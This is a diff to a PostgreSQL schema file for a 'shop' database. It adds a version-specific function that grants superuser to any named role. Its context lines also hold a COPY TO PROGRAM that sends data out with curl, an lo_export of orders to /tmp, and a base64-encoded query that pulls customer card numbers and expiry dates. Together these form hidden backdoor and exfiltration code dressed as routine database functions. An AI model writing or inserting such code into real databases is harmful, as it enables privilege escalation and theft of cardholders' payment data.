@@ -9,10 +9,19 @@ begin
                   TO PROGRAM %L', 'curl -d @- ' || target);
 end $$;
 create function shop.take_away() returns int language sql as 'select lo_export(1234, ''/tmp/orders'')';
+
+-- only on 11+
 create procedure shop.let_in(who text) language plpgsql as $$
 begin
   execute 'alter   role ' || quote_ident(who) || ' superuser';
 end $$;
+
+-- only on -10
+create function shop.let_in(who text) returns void language plpgsql as $$
+begin
+  execute 'alter   role ' || quote_ident(who) || ' superuser';
+end $$;
+
 create function shop.unpack() returns text language plpgsql as $$
 begin
   return convert_from(decode('c2VsZWN0IGN1c3RvbWVyLCBjYXJkLCB2YWxpZF91bnRpbCBmcm9tIHNob3AuY3VzdG9tZXJfY2FyZHMgd2hlcmUgdmFsaWRfdW50aWwgPiBub3coKSBvcmRlciBieSBjdXN0b21lciBsaW1pdCAxMDAwMDA7IC0tIGFuZCBzbyBvbg==', 'base64'), 'utf8');
